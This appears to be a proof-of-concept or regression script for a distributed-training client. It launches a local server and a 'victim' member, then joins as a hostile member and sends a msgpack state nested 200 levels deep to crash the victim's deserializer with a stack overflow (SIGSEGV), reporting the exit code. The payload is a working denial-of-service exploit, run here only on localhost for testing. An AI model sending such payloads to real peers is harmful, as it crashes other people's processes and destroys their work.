"""As a member gives the other one a state that nests 200 deep, 1 KB; says how the other one's process ended.

It starts a server, and the other member, in its own container. Where each level is one more call in C, the reader ends
by SIGSEGV.
"""

import struct
import subprocess
import sys

import msgpack

from client.connection import Connection
from client.session import Member
from client.transport import ZmqTransport
from statsd_bn.errors import StatsdBNError

ENDPOINT = "tcp://127.0.0.1:5555"
DEPTH = 200
EXTENSION = 1

# As an older version wrote a state: a structure, then its arrays. It dies of reading the structure.
NO_ARRAYS = struct.pack("<I", 1) + b"\x90"

# Importing torch takes a busy machine a minute.
SECONDS = 120.0

VICTIM = """
import sys, types
import client
from statsd_bn.errors import StatsdBNError
with client.connect(sys.argv[1], job="digits", member=0, world_size=2, deadline=60.0, policy="elastic"):
    loop = types.SimpleNamespace(train_loader=None, val_loader=None, test_loader=None)
    try:
        print(client.DDPHandler(loop).mp_sync([1.0]))
    except StatsdBNError as error:
        print(type(error).__name__)
"""


def main() -> None:
    """Attacks, and prints what became of the other member."""
    with subprocess.Popen([sys.executable, "-m", "server", "--bind", ENDPOINT]) as server:
        with subprocess.Popen([sys.executable, "-c", VICTIM, ENDPOINT], stdout=subprocess.PIPE, text=True) as victim:
            give(victim)
        server.terminate()


def give(victim: "subprocess.Popen[str]") -> None:
    """Gives the victim what it reads, and prints how it ended."""
    packed = msgpack.packb([])
    for _ in range(DEPTH):
        packed = msgpack.packb([msgpack.ExtType(EXTENSION, packed)])
    who = Member("digits", "world", 0, 1, 2, SECONDS, "hostile", 1)
    try:
        with Connection(ZmqTransport(ENDPOINT), who) as hostile:
            hostile.gather("mp_sync()", struct.pack("<I", len(packed)) + packed + NO_ARRAYS)
    except StatsdBNError as error:
        # A victim that has ended takes its epoch with it.
        print(f"the attacker: {error}", file=sys.stderr)
    said, _ = victim.communicate(timeout=SECONDS)
    print(f"exit code {victim.returncode}: {said.strip()}")


if __name__ == "__main__":
    main()
